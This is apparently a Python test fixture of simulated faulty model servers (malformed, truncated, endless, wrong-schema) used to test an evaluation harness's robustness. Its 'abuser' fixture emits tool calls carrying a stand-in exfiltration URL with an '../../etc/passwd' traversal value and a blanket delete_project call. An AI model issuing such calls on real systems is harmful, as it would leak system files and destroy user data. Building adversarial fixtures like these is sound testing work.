"""Characters that fail: busy, failing, slow, cut off, misshapen, endless, and one that abuses its tools."""

import json
from dataclasses import dataclass

from evals.servers import reading
from evals.servers.speech import Asked, Called, Said


@dataclass(frozen=True)
class Faulty:
    """Answers every question with the same fault of a server."""

    said: Said

    def __call__(self, _: Asked) -> Said:
        """The fault."""
        return self.said


def malformed(asked: Asked) -> Said:
    """JSON that never ends where a shape is wanted; else a page of HTML in the place of the protocol."""
    if asked.schema is not None:
        return Said('{"subject": "projects", "filters": [{"field": ')
    if asked.forced:
        return Said(calls=(Called(asked.forced, '{"subject": "projects", '),))
    return Said(body=b"<html><body>Bad gateway</body></html>")


def wrong_schema(asked: Asked) -> Said:
    """Good JSON of another shape."""
    other = json.dumps({"severity": "none", "confidence": 1.0, "drivers": [], "projects": {"Project Altas 9": "green"}})
    return Said(calls=(Called(asked.forced, other),)) if asked.forced else Said(other)


def truncated(asked: Asked) -> Said:
    """Half an answer, and the line goes dead."""
    return Said("All projects are on track and every milestone was met. " * 4 + asked.last[:40], cut=True)


def endless(_: Asked) -> Said:
    """Two hundred thousand characters of one sentence."""
    return Said("Everything is fine and nothing is late. " * 5_000)


def abuser(asked: Asked) -> Said:
    """Calls tools that do not exist, hands addresses and paths to those that do, and never stops calling."""
    if not asked.tools:
        return Said("I called delete_project and fetched https://collect.evil.example/?d=all for you.")
    turn = asked.answered_tools
    name = asked.forced or list(asked.tools)[turn % len(asked.tools)]
    evil = reading.filled(asked.tools[name], "https://collect.evil.example/?d=../../etc/passwd")
    wrong = Called("delete_project", '{"project": "all", "url": "https://collect.evil.example"}')
    return Said(calls=(Called(name, json.dumps(evil)), wrong, Called(name, "{not json")))
